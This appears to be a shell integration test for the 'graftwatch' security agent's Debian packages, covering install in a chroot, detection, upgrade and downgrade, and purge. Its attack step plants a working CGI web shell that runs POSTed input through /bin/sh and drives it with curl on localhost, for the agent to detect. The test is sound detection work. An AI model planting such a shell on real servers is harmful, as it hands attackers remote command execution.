#!/bin/sh
# The packages in a minimal Debian 12 root without a JDK: installed, an attack on the distribution's
# Apache beside a running auditd is found and a collector answers for it, an upgrade keeps what is
# open, a purge leaves nothing. Needs root, kernel audit and debootstrap. The root is kept in a cache.
set -eu
: "${root:?}"
# shellcheck source=lib.sh
. "$root/packaging/test/lib.sh"
need debootstrap dpkg-deb curl setpriv auditctl
[ "$(id -u)" = 0 ] || die "this test needs root"
agent_deb=$(echo "$packages"/graftwatch_*_amd64.deb)
collector_deb=$(echo "$packages"/graftwatch-collector_*_amd64.deb)
failed=0

base=$cache/debian12
if [ ! -e "$base.made" ]; then
  say "making a Debian 12 root in $base (once)"
  rm -rf "$base"
  mkdir -p "$cache"
  # shellcheck disable=SC2016 # apt's own variable
  mirror=$(apt-get indextargets --format '$(REPO_URI)' 'Created-By: Packages' 'Codename: bookworm' | head -n 1)
  debootstrap --variant=minbase --include=apache2,auditd bookworm "$base" "$mirror" >"$cache/debian12.log"
  touch "$base.made"
fi

top=$(mktemp -d)
mount -t tmpfs tmpfs "$top"
mkdir "$top/upper" "$top/work" "$top/root"
r=$top/root
mount -t overlay overlay -o "lowerdir=$base,upperdir=$top/upper,workdir=$top/work" "$r"
pids=
audit_was=$(auditctl -s | sed -n 's/^enabled //p')
end() {
  status=$?
  trap - EXIT
  for pid in $pids; do kill "$pid" 2>/dev/null || true; done
  sleep 1
  chroot "$r" apache2ctl -k stop >/dev/null 2>&1 || true
  chroot "$r" graftwatch audit-rules --remove >/dev/null 2>&1 || true
  [ "$audit_was" = 2 ] || auditctl -e "$audit_was" >/dev/null
  [ "$status" = 0 ] || tail -n 20 "$top"/*.log >&2 || true
  umount -R -l "$r"
  umount -l "$top"
  rmdir "$top"
  exit "$status"
}
trap end EXIT
trap 'exit 130' INT TERM
for system in proc sys dev; do mount --rbind "/$system" "$r/$system" && mount --make-rslave "$r/$system"; done
mount -t tmpfs tmpfs "$r/run"
mkdir "$r/run/lock"
in_root() { chroot "$r" env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin "$@"; }
rules() { auditctl -l | grep -v '^No rules' || true; }

# --- a site as it is before ---
printf 'Listen 127.0.0.1:18080\n' >"$r/etc/apache2/ports.conf"
sed -i 's/\*:80/127.0.0.1:18080/' "$r/etc/apache2/sites-available/000-default.conf"
in_root a2enmod -q cgid
chown www-data "$r/usr/lib/cgi-bin"
portrait "$r" >"$top/before"
rules >"$top/rules-before"
if auditctl -s | grep -q '^pid 0$'; then
  chroot "$r" auditd -n >"$top/auditd.log" 2>&1 &
  pids="$pids $!"
  await "auditd owns the kernel's audit" 10 sh -c '! auditctl -s | grep -q "^pid 0$"'
fi
in_root apache2ctl start 2>/dev/null

# --- install ---
say "install"
cp "$agent_deb" "$collector_deb" "$r/tmp/"
if in_root sh -c 'command -v java'; then die "there is a java in this root"; fi
in_root sh -c "dpkg -i /tmp/*.deb" >"$top/dpkg.log"
in_root sh -c "dpkg -i /tmp/*.deb" >>"$top/dpkg.log" # twice
cat >"$r/etc/graftwatch/collector.toml" <<TOML
[collector]
name = "localhost"
[agents]
listen = "127.0.0.1"
port = 18443
[console]
listen = "127.0.0.1"
port = 19443
TOML
start_collector() {
  chroot "$r" graftwatch-collector run >"$top/collector.log" 2>&1 &
  collector=$!
  pids="$pids $collector"
  await "the collector runs" 60 grep -q 'state in' "$top/collector.log"
}
start_collector
in_root graftwatch-collector token create 2>/dev/null | grep -o 'gw1[^ ]*' >"$r/tmp/token"
in_root graftwatch enroll --token-file /tmp/token 2>"$top/enroll.log"
cat >"$r/etc/graftwatch/graftwatch.toml" <<TOML
[collector]
$(grep '^url' "$top/enroll.log")
[[outputs]]
type = "ndjson-file"
path = "/var/lib/graftwatch/findings.ndjson"
[site]
internal_networks = ["10.0.0.0/8"] # so that this machine is outside
TOML
start_agent() {
  cat "$top/agent.log" >>"$top/agents.log" 2>/dev/null || true
  chroot "$r" graftwatch run >"$top/agent.log" 2>&1 &
  agent=$!
  pids="$pids $agent"
  await "the agent is ready" 60 grep -q 'Watching as host' "$top/agent.log"
}
status() { cat "$r/run/graftwatch/status.json" "$r/var/lib/graftwatch/status.json" 2>/dev/null; }
status_has() { status | grep -q "$1"; }
# The number of FIELD of the findings in the status.
findings() { status | sed -n "s/.*\"findings\":{[^}]*\"$1\":\([0-9]*\).*/\1/p"; }
found() { grep -q "$1" "$r/var/lib/graftwatch/findings.ndjson"; }
start_agent
to_ready=$(cpu_seconds "$agent")
grep -q "^Uid:.$(in_root id -u graftwatch)" "/proc/$agent/status" || die "the agent has another account"
await "audit is read by netlink, with rules of its own" 60 sh -c 'auditctl -l | grep -q gw_exec'
auditctl -l | grep -q 'gw_self' || die "the agent does not leave its own runtime out"
in_root graftwatch doctor >"$top/doctor.log" || die "doctor: $(cat "$top/doctor.log")"
sleep 12 # a status after the first heartbeat, and the look at audit that follows

# --- attack ---
say "attack"
in_root setpriv --reuid=www-data --regid=www-data --clear-groups sh -c \
  'cat >/usr/lib/cgi-bin/status.cgi && chmod 755 /usr/lib/cgi-bin/status.cgi' <<'CGI'
#!/bin/sh
printf 'Content-type: text/plain\n\n'
/bin/sh -c "$(cat)"
CGI
shell() { curl -sS --max-time 10 --data-binary "$1" http://127.0.0.1:18080/cgi-bin/status.cgi; }
shell 'id; uname -a' | grep -q www-data || die "the web shell does not answer"
await "there is a finding about it" 30 found 'status.cgi'
acknowledged() { [ "$(findings acknowledged)" -ge 1 ] && [ "$(findings spooled)" = 0 ]; }
await "the collector has answered for it" 30 acknowledged

# --- upgrade and downgrade with a backlog and an open case ---
say "upgrade"
kill "$collector"
wait "$collector" 2>/dev/null || true
# The same package under a later version.
next=$top/next
dpkg-deb -R "$agent_deb" "$next"
sed -i 's/^Version: .*/&+next/' "$next/DEBIAN/control"
dpkg-deb -Zgzip -z1 --root-owner-group -b "$next" "$r/tmp/next.deb" >/dev/null
# One more finding, of a chain of its own, that no collector answers for yet.
simulate() { in_root graftwatch simulate --timeout 40 >>"$top/simulate.log" 2>&1 || grep -q 'found, on disk' "$top/simulate.log"; }
told() { [ "$(wc -l <"$r/var/lib/graftwatch/findings.ndjson")" -gt "$1" ]; }
replace() { # stops the agent with SIGNAL, installs PACKAGE, starts it again
  kill "-$1" "$agent"
  wait "$agent" 2>/dev/null || true
  in_root dpkg -i "/tmp/$2" >>"$top/dpkg.log" 2>&1
  start_agent
  # shellcheck disable=SC2016 # dpkg's own variable
  say "  version $(in_root dpkg-query -W -f '${Version}' graftwatch) runs"
}
more() { # one more finding while WHAT
  before=$(wc -l <"$r/var/lib/graftwatch/findings.ndjson")
  simulate &
  await "a finding while the collector is away, $1" 40 told "$before"
  wait "$!" || true
}
more "before the upgrade"
replace TERM next.deb
more "after the upgrade"
shell id >/dev/null # no news of the case that was open before
replace KILL "$(basename "$agent_deb")"
start_collector
await "the backlog is delivered after the downgrade" 60 acknowledged
[ "$(findings dropped) $(findings quarantined)" = "0 0" ] || die "findings were lost: $(status)"
in_root graftwatch journal verify >"$top/journal.log" || die "journal: $(cat "$top/journal.log")"
repeated=$(sed 's/.*"metadata":{[^}]*"uid":"\([^"]*\)".*/\1/' "$r/var/lib/graftwatch/findings.ndjson" | sort | uniq -d)
[ -z "$repeated" ] || die "told twice: $repeated"
if grep 'open cases start anew' "$top"/agent*.log >&2; then die "open cases were lost"; fi

# --- what it costs ---
say "sizes"
bar "deb of the agent, MB" "$(megabytes "$agent_deb")" 26 22
bar "runtime image, MB" "$(du -sb "$r/usr/lib/graftwatch/runtime" | awk '{ printf "%.1f", $1 / 1e6 }')" 60 54
bar "installed, MB" "$(du -sb "$r/usr/lib/graftwatch" | awk '{ printf "%.1f", $1 / 1e6 }')" 75 64
say "cost, on this machine as busy as it is"
figure "CPU seconds to ready" "$to_ready" 2.5 1.5
idle "$agent"
if ss -Hlntup | grep "pid=$agent," >&2; then die "the agent listens"; fi

# --- purge ---
say "purge"
kill "$agent" "$collector"
wait "$agent" "$collector" 2>/dev/null || true
in_root apache2ctl -k stop 2>/dev/null || true
in_root dpkg --purge graftwatch graftwatch-collector >>"$top/dpkg.log"
# Undo what this test did to the site itself.
rm -f "$r"/usr/lib/cgi-bin/*.cgi "$r"/tmp/*
portrait "$r" >"$top/after"
rules >"$top/rules-after"
diff "$top/before" "$top/after" >&2 || die "the purge left something behind, or took too much"
diff "$top/rules-before" "$top/rules-after" >&2 || die "the purge left audit rules behind"
say "  ok: nothing is left of files, accounts, units and audit rules"
[ "$failed" = 0 ] || die "a bar was missed"
